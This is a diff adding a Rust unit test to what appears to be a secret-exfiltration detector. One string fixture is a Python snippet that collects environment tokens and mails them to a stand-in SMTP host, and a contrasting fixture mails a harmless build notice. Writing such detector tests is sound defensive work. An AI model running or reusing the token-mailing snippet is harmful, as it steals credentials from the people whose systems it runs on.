@@ -1113,3 +1113,20 @@ fn request_objects_and_partly_known_addresses_carry_the_destination() {
         details(kw)
     );
 }
+
+#[test]
+fn secrets_mailed_in_a_message() {
+    let src = "import os, smtplib\nfrom email.message import EmailMessage\nkeys = {k: v for k, v in os.environ.items() if k.endswith('_TOKEN')}\nmsg = EmailMessage()\nmsg.set_content(str(keys))\nwith smtplib.SMTP('mail.example.invalid', 25) as s:\n    s.send_message(msg)\n";
+    assert!(
+        kinds(src).contains(&K::SecretExfiltration),
+        "{:?}",
+        details(src)
+    );
+    // A report mailed with nothing of the environment in it sends no secret.
+    let plain = "import smtplib\nfrom email.message import EmailMessage\nmsg = EmailMessage()\nmsg.set_content('build finished')\nwith smtplib.SMTP('mail.example.invalid', 25) as s:\n    s.send_message(msg)\n";
+    assert!(
+        !kinds(plain).contains(&K::SecretExfiltration),
+        "{:?}",
+        details(plain)
+    );
+}
